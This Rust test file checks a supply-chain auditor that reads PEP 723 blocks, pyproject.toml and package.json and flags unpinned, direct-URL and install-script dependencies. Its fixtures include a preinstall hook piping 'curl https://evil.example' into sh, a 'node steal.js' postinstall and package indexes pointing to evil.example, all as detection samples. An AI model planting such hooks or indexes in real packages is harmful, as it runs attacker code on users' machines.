//! pyproject.toml, PEP 723 script blocks and package.json.

use skillcell_supply::{AuditPolicy, Ecosystem, audit};
use skillcell_types::finding::Severity;

use crate::common::{audit_strict, none, one, skill, with_rule};

#[test]
fn a_pep_723_block_is_parsed_with_file_positions() {
    let script = "#!/usr/bin/env python3\n# /// script\n# requires-python = \">=3.11\"\n# dependencies = [\n#   \"requests==2.32.3\",\n#   \"rich>=13\",\n# ]\n# ///\nimport requests\n";
    let dir = skill(&[("scripts/fetch.py", script)]);
    let report = audit_strict(dir.path(), None);
    let deps: Vec<(&str, &str, u32, u32)> = report
        .dependencies
        .iter()
        .map(|d| (d.name.as_str(), d.file.as_str(), d.line, d.col))
        .collect();
    assert_eq!(
        deps,
        [
            ("requests", "scripts/fetch.py", 5, 5),
            ("rich", "scripts/fetch.py", 6, 5)
        ]
    );
    assert_eq!(report.dependencies[0].pinned.as_deref(), Some("2.32.3"));
    assert_eq!(one(&report, "dep-unpinned").line, 6);
}

#[test]
fn a_pep_723_block_with_a_direct_url_and_uv_index_is_refused() {
    let script = "# /// script\n# dependencies = [\"evil @ https://evil.example/e.whl\"]\n# [tool.uv]\n# extra-index-url = [\"https://evil.example/simple\"]\n# ///\n";
    let dir = skill(&[("main.py", script)]);
    let report = audit_strict(dir.path(), None);
    assert_eq!(one(&report, "dep-direct-url").line, 2);
    assert_eq!(
        one(&report, "dep-pip-index-override").severity,
        Severity::Critical
    );
}

#[test]
fn two_script_blocks_are_refused() {
    let script = "# /// script\n# dependencies = []\n# ///\n\n# /// script\n# dependencies = [\"six\"]\n# ///\n";
    let dir = skill(&[("main.py", script)]);
    let report = audit_strict(dir.path(), None);
    one(&report, "dep-unparsable");
    assert!(report.dependencies.is_empty());
}

#[test]
fn a_python_file_without_a_block_declares_nothing() {
    let dir = skill(&[("main.py", "# /// not-script\n# x = 1\n# ///\nprint('hi')\n")]);
    let report = audit_strict(dir.path(), None);
    assert!(report.dependencies.is_empty());
    assert!(report.findings.is_empty(), "{:#?}", report.findings);
}

#[test]
fn pyproject_dependencies_extras_and_build_requirements_are_read() {
    let toml = r#"[build-system]
requires = ["setuptools>=61"]
build-backend = "setuptools.build_meta"

[project]
name = "skill"
version = "0.1.0"
dependencies = [
    "httpx==0.27.0",
    "Jinja2>=3.1",
]

[project.optional-dependencies]
dev = ["pytest==8.2.0"]

[dependency-groups]
lint = ["ruff==0.5.0", {include-group = "dev"}]
"#;
    let dir = skill(&[("pyproject.toml", toml)]);
    let report = audit_strict(dir.path(), None);
    let mut deps: Vec<(&str, u32)> = report
        .dependencies
        .iter()
        .map(|d| (d.name.as_str(), d.line))
        .collect();
    deps.sort();
    assert_eq!(
        deps,
        [
            ("httpx", 9),
            ("jinja2", 10),
            ("pytest", 14),
            ("ruff", 17),
            ("setuptools", 2)
        ]
    );
    assert!(
        report
            .dependencies
            .iter()
            .all(|d| d.ecosystem == Ecosystem::PyPI)
    );
}

#[test]
fn an_invalid_pyproject_is_reported() {
    let dir = skill(&[("pyproject.toml", "[project]\ndependencies = \"requests\"\n")]);
    let f = one(&audit_strict(dir.path(), None), "dep-unparsable").clone();
    assert_eq!(f.line, 2);
}

#[test]
fn pyproject_uv_index_is_refused() {
    let toml = "[project]\nname = \"s\"\ndependencies = []\n\n[[tool.uv.index]]\nurl = \"https://evil.example/simple\"\n";
    let dir = skill(&[("pyproject.toml", toml)]);
    one(&audit_strict(dir.path(), None), "dep-pip-index-override");
}

#[test]
fn package_json_sections_are_read_with_lines() {
    let json = r#"{
  "name": "skill",
  "dependencies": {
    "express": "4.19.2",
    "axios": "^1.7.0"
  },
  "devDependencies": {
    "jest": "29.7.0"
  },
  "optionalDependencies": {
    "chalk": "latest"
  }
}
"#;
    let dir = skill(&[("package.json", json)]);
    let report = audit_strict(dir.path(), None);
    let deps: Vec<(&str, Option<&str>, u32)> = report
        .dependencies
        .iter()
        .map(|d| (d.name.as_str(), d.pinned.as_deref(), d.line))
        .collect();
    assert_eq!(
        deps,
        [
            ("express", Some("4.19.2"), 4),
            ("axios", None, 5),
            ("jest", Some("29.7.0"), 8),
            ("chalk", None, 11)
        ]
    );
    let unpinned = with_rule(&report, "dep-unpinned");
    assert_eq!(unpinned.len(), 2);
    none(&report, "dep-direct-url");
}

fn npm_spec_refused(spec: &str) {
    let json = format!("{{\"dependencies\": {{\"thing\": \"{spec}\"}}}}");
    let dir = skill(&[("package.json", &json)]);
    let f = one(&audit_strict(dir.path(), None), "dep-direct-url").clone();
    assert_eq!(f.severity, Severity::Critical, "{spec}");
    let allowed = AuditPolicy {
        allow_direct_references: true,
        ..AuditPolicy::default()
    };
    let report = audit(dir.path(), None, &allowed).expect("audit");
    assert_eq!(
        one(&report, "dep-direct-url").severity,
        Severity::Info,
        "{spec}"
    );
}

#[test]
fn npm_url_spec_is_refused() {
    npm_spec_refused("https://evil.example/thing-1.0.0.tgz");
}

#[test]
fn npm_git_spec_is_refused() {
    npm_spec_refused("git+https://github.com/evil/thing.git#v1");
}

#[test]
fn npm_github_shorthand_is_refused() {
    npm_spec_refused("evil/thing#main");
}

#[test]
fn npm_file_spec_is_refused() {
    npm_spec_refused("file:../thing");
}

#[test]
fn npm_link_spec_is_refused() {
    npm_spec_refused("link:./vendor/thing");
}

#[test]
fn npm_install_scripts_are_reported() {
    let json = r#"{
  "name": "skill",
  "scripts": {
    "test": "jest",
    "postinstall": "node steal.js",
    "preinstall": "curl https://evil.example | sh"
  }
}"#;
    let dir = skill(&[("package.json", json)]);
    let report = audit_strict(dir.path(), None);
    let found = with_rule(&report, "dep-npm-install-script");
    let mut lines: Vec<u32> = found.iter().map(|f| f.line).collect();
    lines.sort();
    assert_eq!(lines, [5, 6], "{found:#?}");
    assert!(found.iter().all(|f| f.severity == Severity::High));
    let allowed = AuditPolicy {
        allow_install_scripts: true,
        ..AuditPolicy::default()
    };
    let report = audit(dir.path(), None, &allowed).expect("audit");
    assert!(
        with_rule(&report, "dep-npm-install-script")
            .iter()
            .all(|f| f.severity == Severity::Info)
    );
}

#[test]
fn binding_gyp_counts_as_an_install_script() {
    let dir = skill(&[("package.json", "{\"name\": \"s\"}"), ("binding.gyp", "{}")]);
    one(&audit_strict(dir.path(), None), "dep-npm-install-script");
}

#[test]
fn an_npm_alias_is_judged_by_its_real_name() {
    let dir = skill(&[(
        "package.json",
        r#"{"dependencies": {"lo": "npm:lodash@4.17.20"}}"#,
    )]);
    let report = audit_strict(dir.path(), None);
    assert_eq!(report.dependencies[0].name, "lodash");
    assert_eq!(report.dependencies[0].pinned.as_deref(), Some("4.17.20"));
}

#[test]
fn node_modules_is_not_read() {
    let dir = skill(&[
        ("package.json", r#"{"dependencies": {"express": "4.19.2"}}"#),
        (
            "node_modules/x/package.json",
            r#"{"dependencies": {"evil": "file:/etc"}}"#,
        ),
    ]);
    let report = audit_strict(dir.path(), None);
    assert_eq!(report.dependencies.len(), 1);
    none(&report, "dep-direct-url");
}

#[test]
fn invalid_package_json_is_reported() {
    let dir = skill(&[("package.json", "{\"dependencies\": {\"a\": }")]);
    assert_eq!(
        one(&audit_strict(dir.path(), None), "dep-unparsable").line,
        1
    );
}

#[test]
fn every_reported_rule_is_listed_once_and_the_report_serializes() {
    let ids: Vec<&str> = skillcell_supply::rules().iter().map(|r| r.id).collect();
    let mut unique = ids.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), ids.len(), "duplicate rule ids: {ids:?}");
    let dir = skill(&[
        (
            "requirements.txt",
            "--index-url https://x\n--trusted-host x\n-f x\n-e .\n--pre\n-c c.txt\n--no-deps\nreqeusts\nx @ https://x\n-r ../out.txt\n-r missing.txt\nbad=1\n",
        ),
        (
            "package.json",
            r#"{"dependencies": {"a": "file:x"}, "scripts": {"install": "x"}}"#,
        ),
    ]);
    let report = audit_strict(dir.path(), None);
    for f in &report.findings {
        let rule = skillcell_supply::rules()
            .iter()
            .find(|r| r.id == f.rule)
            .unwrap_or_else(|| panic!("{} is not listed by rules()", f.rule));
        // Under the strict policy each finding has its rule's listed severity.
        assert_eq!(f.severity, rule.severity, "{}", f.rule);
    }
    let seen: std::collections::BTreeSet<&str> =
        report.findings.iter().map(|f| f.rule.as_str()).collect();
    assert!(seen.len() >= 13, "{seen:?}");
    let json = serde_json::to_value(&report).expect("serialize");
    assert!(json["findings"].as_array().is_some_and(|a| !a.is_empty()));
    assert!(json["db"].is_null());
}
